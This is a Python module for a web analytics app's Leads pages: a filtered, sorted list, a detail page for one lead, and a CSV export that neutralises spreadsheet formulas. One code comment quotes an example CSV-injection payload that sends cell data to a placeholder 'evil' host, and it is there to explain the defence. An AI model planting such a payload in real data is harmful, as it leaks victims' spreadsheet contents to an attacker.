"""The Leads pages: the sortable, filterable list, one lead's page, and the CSV export.

Sorting, filtering and paging are plain links and a GET form handled here, so the
pages need no JavaScript. Everything shown came from visitors or forms and is escaped
by the templates (autoescape is on; nothing here is marked safe).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import zoneinfo
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlencode

from starlette.concurrency import run_in_threadpool
from starlette.requests import Request
from starlette.responses import Response, StreamingResponse
from starlette.routing import BaseRoute, Route

from sitepulse.analyse.base import AnalysisError
from sitepulse.analyse.lead_detail import (
    SORTS,
    LeadPage,
    LeadQuery,
    LeadRow,
    iter_leads,
    lead_channels,
    lead_detail,
    lead_list,
)
from sitepulse.clock import iso_ms
from sitepulse.runtime import Runtime
from sitepulse.web.ui.render import (
    View,
    error_page,
    parse_view,
    principal_of,
    render,
    unauthorized,
)

PAGE_SIZE: Final = 50
# The list's own parameters, in the order links carry them (after the view's).
FILTER_KEYS: Final = ("tier", "channel", "min_score", "max_score", "overdue", "test", "q")
# Columns whose first click sorts largest / latest first.
_DESC_FIRST: Final = frozenset({"ts", "score", "overdue"})
# Spreadsheets run a cell starting with one of these as a formula ("CSV injection"): a
# visitor who types `=HYPERLINK("http://evil/?"&A1)` as their name would otherwise get a
# live formula into sales' spreadsheet. A leading apostrophe makes the cell plain text.
_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
CSV_COLUMNS: Final = (
    "lead_id",
    "submitted_at",
    "name",
    "email",
    "phone",
    "company",
    "channel",
    "source",
    "medium",
    "campaign",
    "form",
    "score",
    "tier",
    "follow_up_due",
    "overdue",
    "is_test",
)


def csv_cell(value: object) -> str:
    """A value as a CSV cell that no spreadsheet will evaluate as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    text = str(value)
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


def csv_record(row: LeadRow) -> list[str]:
    """One lead as the CSV export's cells (in CSV_COLUMNS order)."""
    values: tuple[object, ...] = (
        row.lead_id,
        iso_ms(row.ts_ms),
        row.name,
        row.email,
        row.phone,
        row.company,
        row.channel,
        row.source,
        row.medium,
        row.campaign,
        row.form,
        None if row.score is None else f"{row.score:g}",
        row.tier,
        iso_ms(row.follow_up_due_ms),
        row.overdue,
        row.is_test,
    )
    return [csv_cell(value) for value in values]


def _line(cells: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    return out.getvalue()


@dataclass(frozen=True, slots=True)
class ListRequest:
    """What the list page was asked for: the filters, the order, the page."""

    query: LeadQuery
    page: int
    params: Mapping[str, str | list[str]]  # the filters as given, for links and the form


def _number(raw: str | None, name: str) -> float | None:
    if raw is None or not raw.strip():
        return None
    try:
        value = float(raw)
    except ValueError:
        raise AnalysisError(name, f"must be a number (got {raw!r})") from None
    if not math.isfinite(value):
        raise AnalysisError(name, f"must be a finite number (got {raw!r})")
    return value


def parse_list_request(request: Request, tiers: tuple[str, ...]) -> ListRequest:
    """The list's filters, sort and page from the query string; AnalysisError names a bad one."""
    query = request.query_params
    wanted = tuple(t for t in query.getlist("tier") if t)
    for tier in wanted:
        if tier not in tiers:
            raise AnalysisError("tier", f"must be one of {', '.join(tiers)} (got {tier!r})")
    sort = query.get("sort", "")
    if sort and sort not in SORTS:
        raise AnalysisError("sort", f"must be one of {', '.join(SORTS)} (got {sort!r})")
    direction = query.get("dir", "")
    if direction not in ("", "asc", "desc"):
        raise AnalysisError("dir", f"must be asc or desc (got {direction!r})")
    page_raw = query.get("page", "1")
    if not page_raw.isdigit() or not 1 <= int(page_raw) <= 100_000:
        raise AnalysisError("page", f"must be a page number (got {page_raw!r})")
    search = query.get("q", "")
    if len(search) > 200:
        raise AnalysisError("q", "must be at most 200 characters")
    params: dict[str, str | list[str]] = {}
    if wanted:
        params["tier"] = list(wanted)
    for key in ("channel", "min_score", "max_score", "q"):
        if query.get(key):
            params[key] = query[key]
    for key in ("overdue", "test"):
        if query.get(key) in ("1", "on", "true"):
            params[key] = "1"
    lead_query = LeadQuery(
        tiers=wanted,
        channel=query.get("channel", ""),
        min_score=_number(query.get("min_score"), "min_score"),
        max_score=_number(query.get("max_score"), "max_score"),
        overdue_only="overdue" in params,
        include_test="test" in params,
        search=search,
        sort=sort,
        descending=direction == "desc",
    )
    return ListRequest(lead_query, int(page_raw), params)


def list_qs(view: View, params: Mapping[str, str | list[str]], **changes: object) -> str:
    """The query string of the list with the view, its filters and `changes` (None drops)."""
    pairs: list[tuple[str, str]] = list(view.params.items())
    merged: dict[str, object] = {**params, **changes}
    for key in (*FILTER_KEYS, "sort", "dir", "page"):
        value = merged.get(key)
        if value is None or value is False or value == "":
            continue
        if isinstance(value, list):
            pairs += [(key, str(item)) for item in value]
        else:
            pairs.append((key, "1" if value is True else str(value)))
    return "?" + urlencode(pairs) if pairs else ""


def sort_link(view: View, wanted: ListRequest, column: str) -> tuple[str, str]:
    """The link of a column header and its aria-sort state ("none", "ascending", ...)."""
    current = wanted.query
    if current.sort == column:
        state = "descending" if current.descending else "ascending"
        direction = "asc" if current.descending else "desc"
    else:
        state = "none"
        direction = "desc" if column in _DESC_FIRST else "asc"
    sort_params = {"sort": column, "dir": direction, "page": None}
    return list_qs(view, wanted.params, **sort_params), state


def leads_routes(runtime: Runtime) -> list[BaseRoute]:
    """GET /leads, /leads/{lead_id} and /leads.csv."""
    settings = runtime.settings
    store = runtime.store
    tiers = tuple(t.name for t in sorted(settings.scoring.tiers, key=lambda t: -t.min_score))

    async def fresh() -> None:
        # Read your writes: a lead acknowledged a moment ago is on the list.
        await run_in_threadpool(lambda: runtime.writer.flush(2.0, sessions=True))

    def parse(request: Request) -> tuple[View, ListRequest, int]:
        now = runtime.ingest.clock()
        view = parse_view(request, settings, now)
        return view, parse_list_request(request, tiers), now

    async def list_page(request: Request) -> Response:
        if principal_of(request) is None:
            return unauthorized()
        try:
            view, wanted, now = parse(request)
        except AnalysisError as exc:
            return error_page(request, 400, exc)
        await fresh()
        offset = (wanted.page - 1) * PAGE_SIZE

        def read() -> tuple[LeadPage, list[str], int | None]:
            page = lead_list(
                store,
                view.period,
                wanted.query,
                now_ms=now,
                tier_order=tiers,
                offset=offset,
                limit=PAGE_SIZE,
            )
            before = None
            if view.compare:
                earlier = view.period.previous()
                before = lead_list(store, earlier, wanted.query, now_ms=now, limit=1).total
            return page, lead_channels(store, view.period), before

        page, channels, before = await run_in_threadpool(read)
        pages = max(1, math.ceil(page.total / PAGE_SIZE))
        context = {
            "view": view,
            "nav_active": "leads",
            "page": page,
            "before": before,
            "page_number": wanted.page,
            "pages": pages,
            "wanted": wanted,
            "tiers": tiers,
            "channels": channels,
            "now_ms": now,
            "list_qs": lambda **changes: list_qs(view, wanted.params, **changes),
            "sort_link": lambda column: sort_link(view, wanted, column),
            "csv_qs": list_qs(view, wanted.params, sort=wanted.query.sort or None,
                              dir="desc" if wanted.query.descending else None),
            "when": lambda ms: _when(ms, view),
        }  # fmt: skip
        return render(request, "leads.html", context)

    async def csv_export(request: Request) -> Response:
        if principal_of(request) is None:
            return unauthorized()
        try:
            view, wanted, now = parse(request)
        except AnalysisError as exc:
            return error_page(request, 400, exc)
        await fresh()

        def lines() -> Iterator[str]:
            yield _line(list(CSV_COLUMNS))
            rows = iter_leads(store, view.period, wanted.query, now_ms=now, tier_order=tiers)
            for row in rows:
                yield _line(csv_record(row))

        name = f"leads-{view.site.id}-{view.from_date}-to-{view.until_date}.csv"
        return StreamingResponse(
            lines(),
            media_type="text/csv; charset=utf-8",
            headers={
                "Content-Disposition": f'attachment; filename="{name}"',
                "Cache-Control": "no-store",
                "X-Content-Type-Options": "nosniff",
            },
        )

    async def lead_page(request: Request) -> Response:
        if principal_of(request) is None:
            return unauthorized()
        now = runtime.ingest.clock()
        try:
            view = parse_view(request, settings, now)
        except AnalysisError as exc:
            return error_page(request, 400, exc)
        await fresh()
        found = await run_in_threadpool(
            lambda: lead_detail(
                store,
                request.path_params["lead_id"],
                site=view.site.id,
                now_ms=now,
                attribution=settings.attribution,
            )
        )
        if found is None:
            missing = AnalysisError("lead_id", "names no lead of this site")
            return error_page(request, 404, missing)
        context = {
            "view": view,
            "nav_active": "leads",
            "lead": found,
            "when": lambda ms: _when(ms, view),
            "back": "/leads" + view.qs(),
        }
        return render(request, "lead.html", context)

    return [
        Route("/leads", list_page, methods=["GET"]),
        Route("/leads.csv", csv_export, methods=["GET"]),
        Route("/leads/{lead_id}", lead_page, methods=["GET"]),
    ]


def _when(ms: int | None, view: View) -> str:
    """Epoch ms as local time in the site's zone, to the minute ("2026-01-05 14:30")."""
    if ms is None:
        return ""
    moment = dt.datetime.fromtimestamp(ms / 1000, zoneinfo.ZoneInfo(view.site.timezone))
    return moment.strftime("%Y-%m-%d %H:%M")
